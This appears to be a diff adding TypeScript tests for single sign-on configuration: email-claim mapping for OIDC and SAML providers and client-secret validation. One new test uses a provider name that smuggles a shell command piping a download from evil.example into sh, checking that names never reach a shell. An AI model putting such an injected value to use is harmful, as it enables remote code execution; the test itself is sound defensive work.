@@ -61,6 +61,13 @@ const badProviders: readonly (readonly [unknown, ...string[]])[] = [
         { Company: { ...oidc, attributes: { email: "" } } },
         'has "Company.attributes.email", which must be the name of a claim, without spaces',
     ],
+    // The address is one that the person chose; verified is another.
+    ...[oidc, google].map((provider) => {
+        const name = provider.type === "google" ? "Google" : "Company";
+        const about = "must map email_verified as well: the provider's own is about its claim email, and not about another";
+        const rule = `has "${name}.attributes", which ${about}`;
+        return [{ [name]: { ...provider, attributes: { email: "preferred_username" } } }, rule] as const;
+    }),
     [{ Campus: { type: "saml" } }, 'has "Campus", which must have one of metadataUrl and metadata'],
     [{ Campus: { ...saml, metadata: "<md/>" } }, 'has "Campus", which must have one of metadataUrl and metadata'],
     [{ Campus: { type: "saml", metadata: "file.xml" } }, `has "Campus.metadata", which must be the provider's metadata, as XML`],
@@ -99,6 +106,19 @@ describe("settings of single sign-on", () => {
         const secrets = identityProviderSecrets as unknown as { isSecret: Promise<boolean>; promise(): Promise<unknown> };
         assert.equal(await secrets.isSecret, true);
         assert.deepEqual(await secrets.promise(), { Google: "google-secret", Company: "company-secret" });
+    });
+
+    it("take the address from another claim where its own word, or the owner's, says that it is verified", async () => {
+        const attributes = { email: "upn" };
+        const providers = [
+            { ...oidc, attributes: { ...attributes, email_verified: "upn_verified" } },
+            { ...oidc, attributes, verifiesEmail: true },
+            { ...saml, attributes },
+        ];
+        for (const provider of providers) {
+            const { identityProviders } = await settingsOf(stack({ Company: provider }));
+            assert.deepEqual(identityProviders["Company"]?.attributes, provider.attributes);
+        }
     });
 
     it("take one address at a public mail service", async () => {
@@ -174,6 +194,13 @@ describe("client secrets", () => {
             [key],
             [hidden(rule("Campus"), mend("Campus")), hidden(rule("Other"), mend("Other"))],
         );
+    });
+
+    it("put no name into a command that a shell would take apart", async () => {
+        const name = "x'; curl evil.example | sh; '";
+        const rule = `holds a secret of ${JSON.stringify(name)}, which is no identity provider with a client secret`;
+        const byHand = `Remove it from ${key} in the stack's file.`;
+        await refused({ [key]: JSON.stringify({ Google: "hush", [name]: "hush" }) }, [key], [hidden(rule, { byHand })]);
     });
 
     it("must be JSON by name, and no message shows them", async () => {
